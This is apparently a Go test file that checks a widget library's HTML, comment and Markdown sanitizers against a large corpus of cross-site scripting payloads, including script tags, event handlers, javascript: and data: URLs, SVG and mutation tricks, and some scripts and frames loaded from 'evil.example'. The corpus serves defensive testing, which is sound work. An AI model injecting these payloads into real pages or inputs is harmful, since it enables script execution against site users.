package widgets_test

import (
	"fmt"
	"quire/widgets"
	"strings"
	"testing"
)

// xssVectors are HTML payloads that try to run script, load a frame or restyle the page. Each is
// sent through every path that stores HTML (widget HTML, comments, Markdown, plain text) and none
// may leave anything executable behind.
var xssVectors = []string{
	// Script elements in every casing and nesting.
	`<script>alert(1)</script>`,
	`<SCRIPT>alert(1)</SCRIPT>`,
	`<ScRiPt>alert(1)</sCrIpT>`,
	`<script src="http://evil.example/x.js"></script>`,
	`<script/xss src="http://evil.example/x.js"></script>`,
	`<scr<script>ipt>alert(1)</scr</script>ipt>`,
	`<<script>alert(1);//<</script>`,
	`<script>alert(1)`,
	`<p><script>alert(1)</script></p>`,
	`</script><script>alert(1)</script>`,
	"<scr\x00ipt>alert(1)</scr\x00ipt>",
	`<script>/*</script><script>*/alert(1)</script>`,
	`<script type="text/template"><img src=x onerror=alert(1)></script>`,
	`<div><svg><script>alert(1)</script></svg></div>`,

	// Event handler attributes.
	`<img src=x onerror=alert(1)>`,
	`<IMG SRC=x ONERROR="alert(1)">`,
	`<img/src=x/onerror=alert(1)>`,
	"<img src=x onerror\n=alert(1)>",
	`<img src="x" onerror="&#97;lert(1)">`,
	`<img src=x onerror=alert(1)//`,
	`<body onload=alert(1)>`,
	`<p onclick="alert(1)">x</p>`,
	`<p/onclick=alert(1)>x`,
	`<div onmouseover="alert(1)">x</div>`,
	`<h1 onauxclick=alert(1)>x</h1>`,
	`<a href="https://ok.example/" onfocus=alert(1) autofocus>x</a>`,
	`<details open ontoggle=alert(1)><summary>x</summary></details>`,
	`<input autofocus onfocus=alert(1)>`,
	`<input type="checkbox" onclick="alert(1)" checked>`,
	`<video><source onerror="alert(1)"></video>`,
	`<audio src=x onerror=alert(1)>`,
	`<marquee onstart=alert(1)>x</marquee>`,
	`<table><tr><td onpointerenter=alert(1)>x</td></tr></table>`,
	`<span onanimationstart=alert(1) style="animation-name:x">x</span>`,
	`<b onbeforecopy=alert(1) contenteditable>x</b>`,
	`<ol onscroll=alert(1) start=3><li>x</ol>`,
	`<x-custom onclick=alert(1)>x</x-custom>`,
	`<keygen autofocus onfocus=alert(1)>`,

	// Dangerous URLs in every attribute that takes one.
	`<a href="javascript:alert(1)">x</a>`,
	`<a href=javascript:alert(1)>x</a>`,
	`<a href="JaVaScRiPt:alert(1)">x</a>`,
	`<a href="  javascript:alert(1)">x</a>`,
	"<a href=\"java\tscript:alert(1)\">x</a>",
	"<a href=\"java\nscript:alert(1)\">x</a>",
	"<a href=\"\x01javascript:alert(1)\">x</a>",
	`<a href="java&#x09;script:alert(1)">x</a>`,
	`<a href="jav&#x0A;ascript:alert(1)">x</a>`,
	`<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>`,
	`<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)">x</a>`,
	`<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)">x</a>`,
	`<a href="javascript&colon;alert(1)">x</a>`,
	`<a href="jAvAsCrIpT&#58;alert(1)">x</a>`,
	`<a href="javascript://%0aalert(1)">x</a>`,
	`<a href="vbscript:msgbox(1)">x</a>`,
	`<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>`,
	`<a href="  data:text/html,<script>alert(1)</script>">x</a>`,
	`<a href="file:///etc/passwd">x</a>`,
	`<img src="javascript:alert(1)">`,
	`<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">`,
	`<img src="x" srcset="javascript:alert(1) 1x">`,
	`<img src="http://ok.example/x.png" usemap="#m"><map name=m><area href=javascript:alert(1)></map>`,
	`<form action="javascript:alert(1)"><button>x</button></form>`,
	`<button formaction="javascript:alert(1)">x</button>`,
	`<input type="image" src="javascript:alert(1)">`,
	`<input type="checkbox" formaction="javascript:alert(1)">`,
	`<blockquote cite="javascript:alert(1)">x</blockquote>`,
	`<q cite="vbscript:msgbox(1)">x</q>`,
	`<table background="javascript:alert(1)"><tr><td>x</td></tr></table>`,
	`<a href="https://ok.example/" ping="javascript:alert(1)">x</a>`,

	// SVG and MathML.
	`<svg onload=alert(1)>`,
	`<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>`,
	`<svg><animate onbegin=alert(1) attributeName=x dur=1s>`,
	`<svg><set attributeName="href" to="javascript:alert(1)"/></svg>`,
	`<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>`,
	`<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='alert(1)'/></svg>#x"/></svg>`,
	`<svg><style><img src=x onerror=alert(1)></style></svg>`,
	`<math><a xlink:href="javascript:alert(1)">x</a></math>`,
	`<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>`,
	`<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>`,

	// Style sheets and style attributes.
	`<style>body{background:url(javascript:alert(1))}</style>`,
	`<style>@import 'http://evil.example/x.css';</style>`,
	`<style>li{list-style-image:url("javascript:alert(1)")}</style><ul><li>x</li></ul>`,
	`<div style="width: expression(alert(1))">x</div>`,
	`<p style="background-image: url(javascript:alert(1))">x</p>`,
	`<p style="text-align: expression(alert(1))">x</p>`,
	`<div style="text-align:center; background:url(http://evil.example/)">x</div>`,
	`<table><tr><td style="text-align:left;behavior:url(x.htc)">x</td></tr></table>`,
	`<div style="-moz-binding:url(http://evil.example/x.xml#x)">x</div>`,
	`<span style="x:\65 xpression(alert(1))">x</span>`,
	`<img src="http://ok.example/x.png" style="position:fixed;top:0;left:0;width:100%;height:100%">`,
	`<link rel=stylesheet href="http://evil.example/x.css">`,

	// Frames, plugins and elements that change the page around them.
	`<iframe src="http://evil.example/"></iframe>`,
	`<iframe src="javascript:alert(1)"></iframe>`,
	`<iframe srcdoc="<script>alert(1)</script>"></iframe>`,
	`<iframe srcdoc="&lt;img src=x onerror=alert(1)&gt;"></iframe>`,
	`<frameset><frame src="javascript:alert(1)"></frameset>`,
	`<object data="javascript:alert(1)"></object>`,
	`<embed src="javascript:alert(1)">`,
	`<applet code="X.class"></applet>`,
	`<base href="javascript:alert(1)//">`,
	`<meta http-equiv="refresh" content="0;url=javascript:alert(1)">`,
	`<form><button formaction=javascript:alert(1)>x`,
	`<isindex action=javascript:alert(1) type=image>`,
	`<a href="https://ok.example/" id="location" name="cookie">x</a>`,
	`<div data-bind="click: alert(1)">x</div>`,

	// Malformed and unclosed tags, quotes that break out of attributes.
	`<img """><script>alert(1)</script>">`,
	`<a href="https://ok.example/"onmouseover="alert(1)">x</a>`,
	`<a href='https://ok.example/' onclick='alert(1)'>x</a>`,
	`<img src="x" " onerror="alert(1)">`,
	"<img src=`x` onerror=alert(1)>",
	`<img src=x title="><script>alert(1)</script>">`,
	`<a href="https://ok.example/?"><script>alert(1)</script>">x</a>`,
	`<<img src=x onerror=alert(1)//<`,
	`<div <script>alert(1)</script>>`,
	`<b <img src=x onerror=alert(1)>>`,
	`</p><img src=x onerror=alert(1)>`,
	`<img src=x:alert(alt) onerror=eval(src) alt=0>`,
	`<code class="language-go onmouseover=alert(1)">x</code>`,
	`<code class="language-&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;">x</code>`,
	`<ol start="javascript:alert(1)"><li>x</li></ol>`,
	`<table><tr><td colspan="1 onmouseover=alert(1)">x</td></tr></table>`,
	`<img src="x" width="100%" height="1 onerror=alert(1)">`,
	`<input checked>`,
	`x</div></div></div><div>a fake login box`,
	`</td></tr></table></li></ul></p>`,
	`<a href="https://ok.example/">every link after this widget`,
	`<details><summary>the rest of the page hides here`,
	`<table><tr><td>a table left open`,
	`<b><i>x</b></i>`,
	`<input type="text" checked disabled>`,

	// Comments, CDATA and processing instructions.
	`<!--<img src="--><img src=x onerror=alert(1)//">`,
	`<![CDATA[<script>alert(1)</script>]]>`,
	`<!--[if gte IE 4]><script>alert(1)</script><![endif]-->`,
	`<!-- --!><img src=x onerror=alert(1)> -->`,
	`<!--><script>alert(1)</script>-->`,
	`<svg><![CDATA[><image xlink:href="]]><img src=x onerror=alert(1)//"></svg>`,
	`<?xml version="1.0"?><script>alert(1)</script>`,
	`<!DOCTYPE html><script>alert(1)</script>`,

	// Mutation XSS: content that one parse reads as text and another as markup.
	`<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
	`<template><script>alert(1)</script></template>`,
	`<template><img src=x onerror=alert(1)></template>`,
	`<textarea><script>alert(1)</script></textarea>`,
	`<textarea></textarea><script>alert(1)</script>`,
	`<title><img src=x onerror=alert(1)></title>`,
	`<xmp><img src=x onerror=alert(1)></xmp>`,
	`<plaintext><img src=x onerror=alert(1)>`,
	`<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>`,
	`<noframes><img src=x onerror=alert(1)></noframes>`,
	`<iframe><img src=x onerror=alert(1)></iframe>`,
	`<select><template><style><img src=x onerror=alert(1)></style></template></select>`,
	`<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>`,
	`<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">`,
	`<table><td><svg><style><img src=x onerror=alert(1)></style></svg></td></table>`,
	`<a href="https://ok.example/"><table><a href="javascript:alert(1)">x</a></table></a>`,
}

// markdownVectors attack through Markdown's own syntax: links, images, autolinks, code info
// strings, headings and task lists.
var markdownVectors = []string{
	"# <script>alert(1)</script>",
	"## x <img src=x onerror=alert(1)>",
	"#### <a href=\"javascript:alert(1)\">x</a>",
	"```\"><script>alert(1)</script>\ncode\n```",
	"```go onmouseover=alert(1)\ncode\n```",
	"```javascript:alert(1)\ncode\n```",
	"- [ ] <img src=x onerror=alert(1)>\n- [x] done",
	"| a | b |\n|---|---|\n| <script>alert(1)</script> | <img src=x onerror=alert(1)> |",
	"<http://ok.example/\"onmouseover=\"alert(1)>",
	"www.ok.example/\"onmouseover=alert(1)",
	"![x\"onerror=\"alert(1)](http://ok.example/x.png)",
	"[x](http://ok.example/ \"t\\\" onmouseover=\\\"alert(1)\")",
	"[x](javascript:alert&#40;1&#41;)",
	"[x]( javascript:alert(1) )",
	"<div>\n# heading inside a block\n<script>alert(1)</script>\n</div>",
	"<details>\n\n# x\n\n</details><script>alert(1)</script>",
	"> <iframe src=\"javascript:alert(1)\"></iframe>",
	"*<img src=x onerror=alert(1)>*",
	"`<script>alert(1)</script>`",
	"<!--\n# x\n--><img src=x onerror=alert(1)>",
}

// xssURLs are link targets no browser may follow into script. Each is tried in Markdown links,
// images, autolinks and reference definitions, and in raw HTML href and src.
var xssURLs = []string{
	"javascript:alert(1)",
	"JAVASCRIPT:alert(1)",
	"JaVaScRiPt:alert(1)",
	"javascript:alert%281%29",
	"javascript://%0aalert(1)",
	"java\tscript:alert(1)",
	"java\nscript:alert(1)",
	"java&#x09;script:alert(1)",
	"java&#10;script:alert(1)",
	"&#106;avascript:alert(1)",
	"&#x6a;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3a;alert(1)",
	"javascript&colon;alert(1)",
	"javascript&#58;alert(1)",
	"\x00javascript:alert(1)",
	"\x1fjavascript:alert(1)",
	"vbscript:msgbox(1)",
	"VBScript:msgbox(1)",
	"data:text/html,<script>alert(1)</script>",
	"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
	"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+",
	"DATA:text/html,x",
	"livescript:alert(1)",
	"file:///etc/passwd",
}

// urlTemplates place a URL where Markdown or HTML makes it a link or an image source.
var urlTemplates = []string{
	"[x](%s)",
	"[x](<%s>)",
	"[x](%s \"title\")",
	"![x](%s)",
	"<%s>",
	"[x][r]\n\n[r]: %s",
	"![x][r]\n\n[r]: <%s>",
	"# [x](%s)",
	"<a href=\"%s\">x</a>",
	"<a href='%s'>x</a>",
	"<img src=\"%s\">",
	"<blockquote cite=\"%s\">x</blockquote>",
}

// allXSSInputs is every vector, with each URL in each template.
func allXSSInputs() []string {
	inputs := append(append([]string{}, xssVectors...), markdownVectors...)
	for _, u := range xssURLs {
		for _, tmpl := range urlTemplates {
			inputs = append(inputs, fmt.Sprintf(tmpl, u))
		}
	}
	return inputs
}

func TestXSSCorpus(t *testing.T) {
	t.Parallel()
	if n := len(xssVectors) + len(markdownVectors) + len(xssURLs); n < 60 {
		t.Fatalf("the corpus has %d vectors; keep at least 60", n)
	}
	for _, input := range allXSSInputs() {
		assertAllSafe(t, input)
	}
}

// TestXSSCorpusKeepsNoScriptText checks that a removed <script> takes its content with it, rather
// than leaving the code on the page as text.
func TestXSSCorpusKeepsNoScriptText(t *testing.T) {
	t.Parallel()
	for _, input := range []string{
		`<p>a<script>alert(1)</script>b</p>`,
		`<p>a<SCRIPT>alert(1)</SCRIPT>b</p>`,
		`<p>a<style>body{color:red}</style>b</p>`,
		`<p>a<iframe>alert(1)</iframe>b</p>`,
	} {
		for name, out := range map[string]string{"SanitizeHTML": must(t)(widgets.SanitizeHTML("val", input)),
			"SanitizeComment": must(t)(widgets.SanitizeComment("msg", input))} {
			if strings.Contains(out, "alert") || strings.Contains(out, "color") || !strings.Contains(out, "ab") {
				t.Errorf("%s(%q) = %q; want the script text gone and the text around it kept", name, input, out)
			}
		}
	}
}

// FuzzSanitize checks on random input that no path that stores HTML lets anything outside its
// allowlist through. `go test` runs the seeds (the whole corpus); `go test -fuzz FuzzSanitize`
// searches for more, and failures found are kept under testdata/fuzz as seeds.
func FuzzSanitize(f *testing.F) {
	for _, input := range allXSSInputs() {
		f.Add(input)
	}
	for _, tc := range formattingCases {
		f.Add(tc.input)
	}
	f.Fuzz(func(t *testing.T, input string) {
		if len(input) > 1<<16 {
			return
		}
		assertAllSafe(t, input)
	})
}
